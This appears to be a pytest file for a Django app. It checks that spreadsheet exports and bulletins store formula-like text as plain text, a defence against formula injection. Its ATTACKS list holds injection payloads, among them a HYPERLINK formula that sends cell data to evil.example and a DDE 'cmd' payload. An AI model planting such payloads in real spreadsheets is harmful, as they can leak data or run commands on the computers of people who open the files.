"""Every spreadsheet the app writes keeps text as text: a cell a spreadsheet
would read as a formula (=, +, -, @, tab, CR, LF first) is written as a
quoted text cell, in the issue and visit lists, the master-data exports and
the bulletin alike."""

import datetime
import io

from django.urls import reverse
from openpyxl import load_workbook

from core.exports import safe_cells
from issues import bulletins
from issues.models import Issue

ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"点此")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1"]


def cells(response_or_bytes, sheet=None):
    raw = response_or_bytes if isinstance(response_or_bytes, bytes) else b"".join(response_or_bytes.streaming_content)
    book = load_workbook(io.BytesIO(raw))
    return [cell for row in (book[sheet] if sheet else book.active).iter_rows() for cell in row]


def test_text_that_looks_like_a_formula_is_written_as_text():
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    sheet.append(safe_cells(sheet, [*ATTACKS, "普通文字", 42, -3]))
    buffer = io.BytesIO()
    book.save(buffer)
    written = cells(buffer.getvalue())
    assert [cell.value for cell in written] == [*ATTACKS, "普通文字", 42, -3]
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in written[: len(ATTACKS)])
    assert [cell.data_type for cell in written[len(ATTACKS) :]] == ["s", "n", "n"]


def test_no_export_carries_a_formula(client, world, make_issue, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    issue = make_issue("in_progress")
    Issue.objects.filter(pk=issue.pk).update(title=ATTACKS[0], request=ATTACKS[1], due_date="2026-05-20")
    world.enterprise_a.address = ATTACKS[1]
    world.enterprise_a.save()
    client.force_login(world.admin)
    exports = {
        "issues": client.get(reverse("issue-export")),
        "enterprises": client.get(reverse("master-export", args=["enterprises"])),
    }
    for name, response in exports.items():
        written = cells(response)
        risky = [cell for cell in written if isinstance(cell.value, str) and cell.value.startswith(("=", "+"))]
        assert risky, name  # the attack reached the file …
        assert all(cell.data_type == "s" for cell in risky), name  # … as text
    bulletin = bulletins.bulletin_make(
        actor=world.supervisor_a, region=world.county_a, start=datetime.date(2026, 6, 1), end=datetime.date(2026, 6, 30)
    )
    overdue = cells(bulletin.file.read(), "逾期问题")
    titles = [cell for cell in overdue if cell.value == ATTACKS[0]]
    assert titles and all(cell.data_type == "s" for cell in titles)
